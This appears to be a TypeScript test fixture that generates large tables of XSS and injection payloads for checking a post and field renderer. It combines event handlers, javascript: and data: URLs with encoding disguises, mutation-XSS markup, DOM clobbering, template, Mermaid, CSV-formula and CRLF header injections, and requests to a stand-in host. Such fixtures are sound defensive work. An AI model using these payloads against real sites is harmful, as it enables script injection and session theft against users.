// Everything that is known to run a script in some renderer or other, as tables that are multiplied. What
// runs calls `alert`, or asks `run.example` for something: a page that does neither is safe.

import { createRequire } from 'node:module';
import { htmlPayloads, markdownPayloads } from '../html/payloads.ts';

const script = 'alert(1)';

/** The host that nothing but a script, style or frame would ask. */
export const runHost = 'run.example';

const words = (text: string): string[] => text.trim().split(/\s+/);

/** Attributes that run a script when something happens, as HTML, SVG and browsers have them. */
const handlers = words(`
  onabort onafterprint onafterscriptexecute onanimationcancel onanimationend onanimationiteration onanimationstart
  onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforescriptexecute
  onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncanplaythrough onchange onclick onclose
  oncommand oncontentvisibilityautostatechange oncontextlost oncontextmenu oncontextrestored oncopy oncuechange oncut
  ondblclick ondrag ondragend ondragenter ondragexit ondragleave ondragover ondragstart ondrop ondurationchange
  onemptied onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange
  ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onlanguagechange onload onloadeddata
  onloadedmetadata onloadend onloadstart onlostpointercapture onmessage onmessageerror onmousedown onmouseenter
  onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpagereveal
  onpageshow onpageswap onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave
  onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onratechange onreadystatechange
  onrejectionhandled onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation
  onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit
  onsuspend ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend
  ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwheel onzoom`);

/** Elements on which such an attribute may stand; `@` stands for it. */
const carriers = [
  '<img src=x @>',
  '<svg @><circle r=9 /></svg>',
  '<div tabindex=0 contenteditable autofocus style="overflow:scroll" @>x</div>',
  '<details open @><summary>x</summary>y</details>',
  '<video src=x autoplay @></video>',
  '<body @>x',
  '<a href="x" @>x</a>',
];

/** Attributes and elements that lead to an address; `@` stands for it. */
const leads = [
  ...['<a href="@">x</a>', '<area href="@">', '<svg><a href="@"><text y="9">x</text></a></svg>'],
  '<svg><a xlink:href="@"><text y="9">x</text></a></svg>',
  '<svg><use href="@" /></svg>',
  '<svg><image href="@" /></svg>',
  '<svg><script href="@"></script></svg>',
  '<svg><a><animate attributeName="href" to="@" /><text y="9">x</text></a></svg>',
  '<svg><a><set attributeName="href" to="@" /><text y="9">x</text></a></svg>',
  '<svg><foreignObject><iframe src="@"></iframe></foreignObject></svg>',
  ...['<math href="@"><mi>x</mi></math>', '<math><mi xlink:href="@">x</mi></math>'],
  ...['<img src="@">', '<img srcset="@ 2x">', '<image src="@">', '<input type=image src="@">'],
  '<picture><source srcset="@"><img src=x></picture>',
  ...['<iframe src="@"></iframe>', '<frameset><frame src="@"></frameset>', '<embed src="@">'],
  ...['<object data="@"></object>', '<applet code="@"></applet>', '<portal src="@"></portal>'],
  '<object><param name="src" value="@"></object>',
  ...['<form action="@"><button>x</button></form>', '<button formaction="@">x</button>'],
  '<form id=f></form><input form=f type=submit formaction="@">',
  ...[
    '<link rel=stylesheet href="@">',
    '<link rel=import href="@">',
    '<link rel=preload href="@">',
  ],
  ...['<script src="@"></script>', '<base href="@">', '<body background="@">x'],
  '<meta http-equiv=refresh content="0;url=@">',
  '<table background="@"><td background="@">x</table>',
  ...['<video poster="@"></video>', '<audio src="@" autoplay></audio>'],
  ...['<video><track default src="@"></video>', '<blockquote cite="@">x</blockquote>'],
  '<div style="background:url(\'@\')">x</div>',
  '<a href="x" ping="@">x</a>',
];

/** Ways to write the first letters of an address so that only a browser knows them. */
const disguises: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => [...scheme].map((c, at) => (at % 2 === 0 ? c.toUpperCase() : c)).join(''),
  (scheme) => [...scheme].map((c) => `&#${c.charCodeAt(0)};`).join(''),
  (scheme) => [...scheme].map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`).join(''),
  (scheme) => [...scheme].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join(''),
  (scheme) => [...scheme].map((c) => `&#X${c.charCodeAt(0).toString(16).toUpperCase()};`).join(''),
  (scheme) => [...scheme].map((c) => `\\${c}`).join(''),
  (scheme) => [...scheme].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''),
  (scheme) => [...scheme].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join(''),
  (scheme) => [...scheme].map((c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join(''),
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}&Tab;${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}&NewLine;${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}\0${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}&#0;${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}\u00ad${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 4)}<!-- -->${scheme.slice(4)}`,
  (scheme) => ` ${scheme}`,
  (scheme) => `&#x20;${scheme}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `&#1;${scheme}`,
  (scheme) => `\u2028${scheme}`,
  (scheme) => `&ZeroWidthSpace;${scheme}`,
  (scheme) => `feed:${scheme}`,
  (scheme) => `//${scheme}`,
  (scheme) => `x:${scheme}`,
];
const schemes: readonly (readonly [scheme: string, rest: string])[] = [
  ['javascript:', script],
  ['javascript:', `//%0a${script}`],
  ['vbscript:', script],
  ['data:', `text/html,<script>parent.${script}</script>`],
  ['data:', 'text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
];

/** Addresses that run something when they are followed, or loaded as a script or a page. */
const addresses: readonly string[] = [
  ...schemes.flatMap(([scheme, rest]) => disguises.map((disguise) => `${disguise(scheme)}${rest}`)),
  `https://${runHost}/x`,
  `//${runHost}/x`,
  `\\\\${runHost}\\x`,
];
const fewAddresses = [0, 3, 5, 11, 14, 21].flatMap((at) => addresses[at] ?? []);

/** Ways to lead to an address in Markdown; `@` stands for it. */
const links = [
  ...['[x](@)', '[x](<@>)', '[x](@ "title")', '<@>', '[**x**](@)', '[![x](x.png)](@)', '[x](@'],
  ...['![x](@)', '![x](<@>)', '[x][ref]\n\n[ref]: @', '[x][ref]\n\n[ref]: <@> "y"'],
  ...['x[^n]\n\n[^n]: [x](@)', '| a |\n|---|\n| [x](@) |', '- [ ] [x](@) (ticket: @)'],
  ...['### [x](@)', '> [!NOTE]\n> [x](@)', '@', '**[x](@)**\n\n- **[x](@)**: y'],
];

/** Markup that gets its way by what a parser, a second parser or a template makes of it. */
const tricks = [
  ...htmlPayloads,
  ...markdownPayloads,
  `<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]></mglyph><img src onerror=${script}>">`,
  `<svg></p><style><g title="</style><img src onerror=${script}>">`,
  `<math></br><style><img src onerror=${script}></style></math>`,
  `<svg><desc><svg><image xlink:href=x onerror=${script}></image></svg></desc></svg>`,
  `<svg><title><style><img src=x onerror=${script}></style></title></svg>`,
  `<math><annotation-xml encoding="text/html"><img src onerror=${script}></annotation-xml></math>`,
  `<form><input name=attributes><input name=parentNode><img src onerror=${script}></form>`,
  `<table><tr><td><select><img src onerror=${script}></select></td></tr></table>`,
  `<select><style></select><img src onerror=${script}></style>`,
  `<template shadowrootmode=open><script>${script}</script></template>`,
  `<iframe srcdoc="&lt;script&gt;parent.${script}&lt;/script&gt;"></iframe>`,
  `<iframe src="https://${runHost}/frame"></iframe>`,
  `<style>@import "https://${runHost}/x.css"; @font-face{font-family:x;src:url(https://${runHost}/f)}</style>`,
  `<link rel=prefetch href=https://${runHost}/x><link rel=icon href=https://${runHost}/i>`,
  `<div style="background-image:url(https://${runHost}/b)">x</div>`,
  `<object type="text/html" data="https://${runHost}/o"></object>`,
  `<input autofocus onfocus=${script}><select autofocus onfocus=${script}><textarea autofocus onfocus=${script}>`,
  `<a href="#" onclick="${script}" accesskey=x id=x>x</a><a href=javascript&colon;${script}>x</a>`,
  `<img src="x" alt="\`><img src=x onerror=${script}>\`">`,
  `<p style="animation-name:x" onanimationstart="${script}"><style>@keyframes x{}</style>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${script}>y</div>`,
  `<dialog open onclose=${script}><form method=dialog><button>x</button></form></dialog>`,
  '<%= alert(1) %><% alert(1) %><%~ alert(1) %>',
  '{{ constructor.constructor("alert(1)")() }} {% raw %} {{ "x" | safe }} \x24{alert(1)} #{alert(1)}',
  '<!--#exec cmd="id"--><?php alert(1) ?>',
  '&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '\\<img src=x onerror=alert(1)\\>',
  '`<img src=x onerror=alert(1)>` ``<script>`alert(1)`</script>``',
  ']]><script>alert(1)</script><![CDATA[',
  '</script><script>alert(1)</script>\u2028',
  '</title></head></style></textarea></noscript></template><script>alert(1)</script>',
  '\';alert(1)//";alert(1)//`;alert(1)//--></script><script>alert(1)</script>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '=HYPERLINK("javascript:alert(1)")',
  '[a](<javascript:alert(1)> "x") <javascript:alert(1)> javascript:alert(1) www.x.example/javascript:alert(1)',
];

/** Names that scripts ask the window, the document or a form for. */
const clobberers = words(`
  alert body childNodes children close constructor content cookie createElement defaultView document domain event
  fetch firstChild focus form forms frames getElementById hasOwnProperty head history images innerHTML length links
  localStorage location name navigator nextSibling nodeName open opener origin parent parentNode pagefind prototype
  querySelector recount remove scripts self status title toString top valueOf window __proto__`);
const clobbering = [
  ...['<a id=@ name=@ href=x>x</a>', '<form id=@ name=@><input name=@></form>'],
  ...[
    '<img id=@ name=@ src=x>',
    '<iframe name=@ srcdoc=x></iframe>',
    '## @',
    '<h3 id=@ name=@>@</h3>',
  ],
  ...['x[^@]\n\n[^@]: y', '[@](#@) <p id=h-@ class=@>x</p>', '- [ ] @ (id: @)'],
];

const diagrams = [
  'graph TD\n  A["@"] --> B',
  'graph TD\n  A[@] -->|@| B(@)',
  'graph TD\n  A --> B\n  click A "@" "@" _self',
  'graph TD\n  A --> B\n  click A call @()',
  'graph TD\n  A --> B\n  style A fill:@,stroke:@\n  classDef @ fill:@\n  linkStyle 0 stroke:@',
  'graph TD\n  subgraph @\n  A --> B\n  end',
  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@"}}%%\ngraph TD\n  A["@"] --> B',
  '---\ntitle: @\nconfig: {securityLevel: loose}\n---\ngraph TD\n  A --> B',
  'graph TD\n  accTitle: @\n  accDescr: @\n  A --> B',
  'sequenceDiagram\n  participant A as @\n  A->>B: @\n  Note over A,B: @\n  link A: x @ @',
  'classDiagram\n  class A["@"]\n  A : @\n  click A href "@"',
  'erDiagram\n  A ||--o{ B : "@"',
  'stateDiagram-v2\n  s1 : @\n  s1 --> s2 : @',
  'gantt\n  title @\n  section @\n  @ : 2024-01-01, 1d',
  'xychart-beta\n  title "@"\n  x-axis [@, b]\n  bar [1, 2]',
].flatMap((diagram) =>
  [
    '<img src=x onerror=alert(1)>',
    '</text></svg><script>alert(1)</script>',
    'javascript:alert(1)',
    '"><script>alert(1)</script>',
    `url(https://${runHost}/x)`,
    "'); alert(1); ('",
  ].map((text) => `\`\`\`mermaid\n${diagram.replaceAll('@', text)}\n\`\`\``),
);

const fences = [
  '@\nx\n',
  'js @\nx\n',
  'js {@}\nx\n',
  'js title="@"\nx\n',
  'html\n@\n',
  'xml\n<a>@</a>\n',
  'diff\n+@\n',
].flatMap((fence) =>
  [
    '"><img src=x onerror=alert(1)>',
    "' onload='alert(1)",
    '<script>alert(1)</script>',
    'x" onclick=alert(1) "',
  ].map((text) => `\`\`\`${fence.replaceAll('@', text)}\`\`\``),
);

/** The strings that the npm package of the list of naughty strings has. */
const naughty = createRequire(import.meta.url)('big-list-of-naughty-strings') as readonly string[];

/** Texts for the body of a post, each once. */
export const bodyPayloads: readonly string[] = [
  ...new Set([
    ...tricks,
    ...handlers.flatMap((name) =>
      carriers.map((carrier) => carrier.replace('@', `${name}="${script}"`)),
    ),
    ...leads.flatMap((lead) => fewAddresses.map((address) => lead.replaceAll('@', address))),
    ...leads
      .map((lead) => lead.replaceAll('@', `https://${runHost}/x`))
      .filter((lead) => !loadsImages(lead)),
    ...addresses.flatMap((address) => links.map((link) => link.replaceAll('@', address))),
    ...clobberers.flatMap((name) => clobbering.map((text) => text.replaceAll('@', name))),
    ...diagrams,
    ...fences,
    ...naughty,
  ]),
];

/** Images of other hosts are allowed, and so they may be asked for. */
function loadsImages(lead: string): boolean {
  return /^<(?:img|image|picture|a href="@")/.test(lead) || lead.startsWith('<a ');
}

/** Texts for fields, tags, names: short, on one line. */
export const valuePayloads: readonly string[] = [
  ...new Set(
    [
      '"><script>alert(1)</script>',
      "'><img src=x onerror=alert(1)>",
      '<svg onload=alert(1)>',
      '</title><script>alert(1)</script>',
      '</script><script>alert(1)</script>',
      '<!--<script>alert(1)</script>',
      '" autofocus onfocus=alert(1) x="',
      "' onmouseover='alert(1)",
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)//https://example.org',
      'data:text/html,<script>alert(1)</script>',
      '[x](javascript:alert(1))',
      '![x](x" onerror="alert(1))',
      '<javascript:alert(1)>',
      ']]><script>alert(1)</script>',
      '&lt;img src=x onerror=alert(1)&gt;',
      '&#60;img src=x onerror=alert(1)&#62;',
      '{{ constructor.constructor("alert(1)")() }}',
      '<%= alert(1) %>',
      '\x24{alert(1)}',
      '\u2028</script><svg onload=alert(1)>',
      '=HYPERLINK("javascript:alert(1)")',
      '+cmd|alert(1)',
      '@SUM(1)*alert(1)',
      '-2+3+alert(1)',
      '__proto__',
      'constructor',
      'location',
      '../../../x',
      '..\\..\\x<img src=x onerror=alert(1)>',
      'a\r\nSet-Cookie: x=alert(1)',
      '<a href=x id=body name=body>x</a>',
      '`<img src=x onerror=alert(1)>`',
      '<mark><img src=x onerror=alert(1)></mark>',
      '%3Cimg src=x onerror=alert(1)%3E',
      '<iframe srcdoc="<script>parent.alert(1)</script>">',
      ...naughty.filter((text) => /[<"']|script/i.test(text)),
    ].map((text) => text.replaceAll(/[\r\n]+/g, ' ')),
  ),
];
